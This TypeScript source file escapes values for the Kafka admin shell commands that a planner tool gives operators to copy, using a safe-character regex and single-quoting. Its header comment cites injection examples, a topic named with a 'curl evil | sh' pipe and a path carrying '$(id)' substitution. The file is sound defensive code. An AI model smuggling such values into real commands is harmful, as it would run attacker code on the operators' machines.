/**
 * Values written into the shell commands the planner gives operators to copy (kafka-configs.sh,
 * kafka-reassign-partitions.sh, kafka-leader-election.sh). Topic names, dir paths and the bootstrap
 * address come from snapshots and requests: a shared link, an import or a request can name a topic
 * `x; curl evil | sh` or a dir `/d'$(id)'` (the snapshot schema checks no characters), and the
 * command must still pass it as one word, never run it.
 * - A value of only characters no POSIX shell (sh, bash, zsh) treats specially goes as it is, so
 *   ordinary commands read as before (`--entity-name orders`, `--bootstrap-server k1:9092,k2:9092`).
 * - Anything else is single-quoted, each `'` written as `'\''`: inside single quotes nothing expands.
 */
import { BOOTSTRAP_PLACEHOLDER } from "./options";

/** No globbing, expansion, splitting, redirection or history; `=` and `~` only after the first character (zsh's `=cmd`). */
const SAFE = /^[A-Za-z0-9._/:,@+-][A-Za-z0-9._/:,@+=-]*$/;

/** `value` as one shell word. */
export function shellArg(value: string): string {
  return SAFE.test(value) ? value : `'${value.replace(/'/g, "'\\''")}'`;
}

/** The bootstrap address as one shell word; the placeholder stays as it is, for the operator to replace. */
export function bootstrapArg(value: string): string {
  return value === BOOTSTRAP_PLACEHOLDER ? value : shellArg(value);
}
